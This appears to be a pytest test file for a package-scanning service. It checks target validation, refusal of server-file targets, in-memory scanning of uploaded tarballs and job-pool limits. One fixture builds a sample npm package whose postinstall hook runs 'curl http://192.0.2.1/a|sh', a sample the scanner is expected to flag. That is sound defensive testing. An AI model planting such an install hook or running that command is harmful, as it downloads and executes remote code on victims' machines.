"""serve/scans.py: the API's scanner never reads the server's disk; the pool is bounded."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest

from chainwatch.db import connect
from chainwatch.errors import UsageError
from chainwatch.serve.scans import ScanPool, ScanRequest, registry_scan, target_problem
from chainwatch.verdicts import VerdictStore
from tests.unit.test_serve_api import targz


@pytest.mark.parametrize("spec", ["chalk@5.6.1", "@scope/name@1.0.0", "chalk@^5.0.0",
                                  "chalk@latest", "chalk@>=1.0.0 <2", "a@1.x || 2.x"])
def test_registry_targets_pass(spec: str) -> None:
    assert target_problem(spec) is None


def test_the_scanner_refuses_a_target_that_names_a_file_on_the_server(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "chalk@5.6.1").mkdir()
    (tmp_path / "chalk@5.6.1" / "package.json").write_text('{"name":"chalk","version":"5.6.1"}')
    monkeypatch.chdir(tmp_path)
    engine = connect(f"sqlite:///{tmp_path / 'db.sqlite'}")
    scan, close = registry_scan(engine, None)  # type: ignore[arg-type]  # no registry at all
    try:
        with pytest.raises(UsageError, match="names a file on the server"):
            scan(ScanRequest(target="chalk@5.6.1", against="none"))
        with pytest.raises(UsageError, match="only registry targets"):
            scan(ScanRequest(target="./chalk@5.6.1", against="none"))
    finally:
        close()


def test_an_uploaded_tarball_is_scanned_in_memory_and_remembered(tmp_path: Path) -> None:
    engine = connect(f"sqlite:///{tmp_path / 'db.sqlite'}")
    scan, close = registry_scan(engine, None)  # type: ignore[arg-type]
    body = targz({"package/package.json": b'{"name":"inert-upload","version":"1.0.0",'
                                          b'"scripts":{"postinstall":"node x.js"}}',
                  "package/x.js": b"require('child_process').exec('curl http://192.0.2.1/a|sh')"})
    try:
        key, doc, note = scan(ScanRequest(tarball=body, against="none"))
    finally:
        close()
    assert key.startswith("sha512-") and note is None  # nothing was stored: kept
    assert doc["schema"] == "chainwatch.scan/1" and doc["package"] == "inert-upload"
    assert doc["verdict"] in ("suspicious", "malicious")
    stored = VerdictStore(engine=engine).by_key(key)
    assert stored is not None and stored.package == "inert-upload"
    assert not list(tmp_path.glob("**/x.js"))  # nothing was written out


def test_finished_jobs_are_forgotten_beyond_the_bound() -> None:
    def instant(request: ScanRequest) -> tuple[str, dict[str, Any]]:
        return "k", {}

    pool = ScanPool(instant, workers=1, max_jobs=3)
    try:
        jobs = []
        for i in range(6):
            jobs.append(pool.submit(ScanRequest(target=f"p@1.0.{i}")))
            deadline = time.time() + 5
            while jobs[-1].status != "done" and time.time() < deadline:
                time.sleep(0.01)
        assert pool.get(jobs[0].id) is None and pool.get(jobs[-1].id) is not None
        assert sum(pool.get(j.id) is not None for j in jobs) <= 4
        assert jobs[-1].request.tarball is None
    finally:
        pool.close()
